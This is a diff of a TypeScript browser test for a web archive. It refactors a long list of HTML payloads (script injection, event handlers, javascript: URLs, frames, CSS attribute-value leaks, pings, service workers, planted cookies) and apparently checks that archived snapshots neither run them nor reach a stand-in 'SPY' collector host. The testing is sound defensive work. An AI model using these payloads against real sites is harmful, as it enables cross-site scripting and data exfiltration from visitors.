@@ -22,91 +22,72 @@ const quoted = cry.replaceAll('"', '&quot;');
 /** `OURS` stands for the address of the archive, `SPY` for that of a site which collects what gets out. */
 type Attempt = { name: string; html: string; click?: string; type?: string };
 
+const attempt = (name: string, html: string, click?: string): Attempt => ({ name, html, ...(click ? { click } : {}) });
 const attempts: Attempt[] = [
-  { name: 'an inline script', html: `<script>${cry}</script>` },
-  { name: 'a script of its site', html: '<script src="SPY/a.js"></script>' },
-  { name: 'a script of ours', html: '<script src="OURS/articles"></script>' },
-  { name: 'a module', html: `<script type="module">${cry}</script>` },
-  {
-    name: 'an event handler',
-    html: `<body onload="${quoted}"><img src="data:image/png;base64,x" onerror="${quoted}">`,
-  },
-  {
-    name: 'an element that takes the focus',
-    html: `<input autofocus onfocus="${quoted}"><details open ontoggle="${quoted}">`,
-  },
-  {
-    name: 'a style that ends',
-    html: `<style>@keyframes x{to{left:0}}</style><p style="animation:x 1ms" onanimationend="${quoted}">x`,
-  },
-  { name: 'a javascript link', html: `<a id="go" href="javascript:${quoted}">go</a>`, click: '#go' },
-  { name: 'a link to a new window', html: '<a id="go" target="_blank" href="SPY/link">go</a>', click: '#go' },
-  { name: 'a refresh to a script', html: `<meta http-equiv="refresh" content="0;url=javascript:${quoted}">` },
-  { name: 'a frame', html: '<iframe src="OURS/articles"></iframe>' },
-  { name: 'a frame of its site', html: '<iframe src="SPY/frame"></iframe>' },
-  {
-    name: 'a frame of data',
-    html: `<iframe src="data:text/html,<script>${encodeURIComponent(cry)}</script>"></iframe>`,
-  },
-  { name: 'a frame that holds its page', html: `<iframe srcdoc="&lt;script&gt;${quoted}&lt;/script&gt;"></iframe>` },
-  { name: 'a frame that is a script', html: `<iframe src="javascript:${quoted}"></iframe>` },
-  { name: 'an object and an embed', html: '<object data="OURS/articles"></object><embed src="SPY/embed">' },
-  {
-    name: 'a form to us',
-    html: '<form action="OURS/articles" method="post"><button id="go">go</button></form>',
-    click: '#go',
-  },
-  { name: 'a form to its site', html: '<form action="SPY/form"><button id="go">go</button></form>', click: '#go' },
-  {
-    name: 'a form of a script',
-    html: `<form action="javascript:${quoted}"><button id="go">go</button></form>`,
-    click: '#go',
-  },
-  { name: 'a base of ours', html: `<base href="OURS/"><link rel="stylesheet" href="articles"><img src="articles">` },
-  {
-    name: 'a picture of its site',
-    html: '<img src="SPY/pixel" srcset="SPY/pixel2 2x"><picture><source srcset="SPY/p3"></picture>',
-  },
-  {
-    name: 'a style sheet of its site',
-    html: '<link rel="stylesheet" href="SPY/style"><style>@import "SPY/import";</style>',
-  },
-  {
-    name: 'a style that asks for things',
-    html: '<style>body{background:url(SPY/bg)}@font-face{font-family:x;src:url(SPY/font)}p{font-family:x}</style><p>x',
-  },
-  {
-    name: 'a style that reads attributes',
-    html: '<style>input[value^=a]{background:url(SPY/a)}</style><input value="abc">',
-  },
-  {
-    name: 'hints',
-    html: '<link rel="preload" as="script" href="SPY/preload"><link rel="prefetch" href="SPY/prefetch"><link rel="icon" href="SPY/icon"><link rel="manifest" href="SPY/manifest">',
-  },
-  {
-    name: 'a drawing with a script',
-    html: `<svg><script>${cry}</script><image href="SPY/image"/><use href="SPY/use#a"/><a href="javascript:${quoted}"><text y="20" id="go">go</text></a></svg>`,
-    click: '#go',
-  },
-  {
-    name: 'sound and film',
-    html: '<video autoplay src="SPY/film" poster="SPY/poster"></video><audio autoplay src="SPY/sound"></audio>',
-  },
-  { name: 'a ping', html: '<a id="go" ping="OURS/articles SPY/ping" href="#x">go</a>', click: '#go' },
-  {
-    name: 'a policy of its own',
-    html: `<meta http-equiv="content-security-policy" content="default-src *; script-src 'unsafe-inline'"><script>${cry}</script>`,
-  },
-  { name: 'a worker', html: "<script>navigator.serviceWorker.register('OURS/sw.js')</script>" },
-  { name: 'a cookie', html: '<meta http-equiv="set-cookie" content="planted=1">' },
-  {
-    name: 'a template with a shadow',
-    html: `<div><template shadowrootmode="open"><img src=x onerror="${quoted}"><script>${cry}</script></template></div>`,
-  },
-  {
-    name: 'XML that is a page',
-    html: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${cry}</script></html>`,
-  },
+  attempt('an inline script', `<script>${cry}</script>`),
+  attempt('a script of its site', '<script src="SPY/a.js"></script>'),
+  attempt('a script of ours', '<script src="OURS/articles"></script>'),
+  attempt('a module', `<script type="module">${cry}</script>`),
+  attempt('an event handler', `<body onload="${quoted}"><img src="data:image/png;base64,x" onerror="${quoted}">`),
+  attempt(
+    'an element that takes the focus',
+    `<input autofocus onfocus="${quoted}"><details open ontoggle="${quoted}">`,
+  ),
+  attempt(
+    'a style that ends',
+    `<style>@keyframes x{to{left:0}}</style><p style="animation:x 1ms" onanimationend="${quoted}">x`,
+  ),
+  attempt('a javascript link', `<a id="go" href="javascript:${quoted}">go</a>`, '#go'),
+  attempt('a link to a new window', '<a id="go" target="_blank" href="SPY/link">go</a>', '#go'),
+  attempt('a refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${quoted}">`),
+  attempt('a frame', '<iframe src="OURS/articles"></iframe>'),
+  attempt('a frame of its site', '<iframe src="SPY/frame"></iframe>'),
+  attempt('a frame of data', `<iframe src="data:text/html,<script>${encodeURIComponent(cry)}</script>"></iframe>`),
+  attempt('a frame that holds its page', `<iframe srcdoc="&lt;script&gt;${quoted}&lt;/script&gt;"></iframe>`),
+  attempt('a frame that is a script', `<iframe src="javascript:${quoted}"></iframe>`),
+  attempt('an object and an embed', '<object data="OURS/articles"></object><embed src="SPY/embed">'),
+  attempt('a form to us', '<form action="OURS/articles" method="post"><button id="go">go</button></form>', '#go'),
+  attempt('a form to its site', '<form action="SPY/form"><button id="go">go</button></form>', '#go'),
+  attempt('a form of a script', `<form action="javascript:${quoted}"><button id="go">go</button></form>`, '#go'),
+  attempt('a base of ours', `<base href="OURS/"><link rel="stylesheet" href="articles"><img src="articles">`),
+  attempt(
+    'a picture of its site',
+    '<img src="SPY/pixel" srcset="SPY/pixel2 2x"><picture><source srcset="SPY/p3"></picture>',
+  ),
+  attempt('a style sheet of its site', '<link rel="stylesheet" href="SPY/style"><style>@import "SPY/import";</style>'),
+  attempt(
+    'a style that asks for things',
+    '<style>body{background:url(SPY/bg)}@font-face{font-family:x;src:url(SPY/font)}p{font-family:x}</style><p>x',
+  ),
+  attempt('a style that reads attributes', '<style>input[value^=a]{background:url(SPY/a)}</style><input value="abc">'),
+  attempt(
+    'hints',
+    '<link rel="preload" as="script" href="SPY/preload"><link rel="prefetch" href="SPY/prefetch"><link rel="icon" href="SPY/icon"><link rel="manifest" href="SPY/manifest">',
+  ),
+  attempt(
+    'a drawing with a script',
+    `<svg><script>${cry}</script><image href="SPY/image"/><use href="SPY/use#a"/><a href="javascript:${quoted}"><text y="20" id="go">go</text></a></svg>`,
+    '#go',
+  ),
+  attempt(
+    'sound and film',
+    '<video autoplay src="SPY/film" poster="SPY/poster"></video><audio autoplay src="SPY/sound"></audio>',
+  ),
+  attempt('a ping', '<a id="go" ping="OURS/articles SPY/ping" href="#x">go</a>', '#go'),
+  attempt(
+    'a policy of its own',
+    `<meta http-equiv="content-security-policy" content="default-src *; script-src 'unsafe-inline'"><script>${cry}</script>`,
+  ),
+  attempt('a worker', "<script>navigator.serviceWorker.register('OURS/sw.js')</script>"),
+  attempt('a cookie', '<meta http-equiv="set-cookie" content="planted=1">'),
+  attempt(
+    'a template with a shadow',
+    `<div><template shadowrootmode="open"><img src=x onerror="${quoted}"><script>${cry}</script></template></div>`,
+  ),
+  attempt(
+    'XML that is a page',
+    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${cry}</script></html>`,
+  ),
   ...['application/xhtml+xml', 'text/plain', 'text/html; charset=utf-7'].map((type) => ({
     name: `a drawing with a script as ${type}`,
     type,
@@ -169,8 +150,9 @@ describe.skipIf(!hasBrowser)(title, () => {
   async function snapshotOf(name: string, html: string, contentType = 'text/html; charset=utf-8'): Promise<string> {
     const url = `http://replay.example/2024/04/03/${encodeURIComponent(name)}`;
     const filled = html.replaceAll('OURS', ours).replaceAll('SPY', `http://127.0.0.1:${spy.port}`);
-    site.serve(url, (_, response) => response.writeHead(200, { 'content-type': contentType }).end(filled));
-    const { body } = await archive.post({ url });
+    const { body } = await archive.keep(url, (_, response) =>
+      response.writeHead(200, { 'content-type': contentType }).end(filled),
+    );
     return `/articles/${body.id}/snapshots/${(await archive.get(`/articles/${body.id}/snapshots`)).body.items[0].timestamp}`;
   }
 
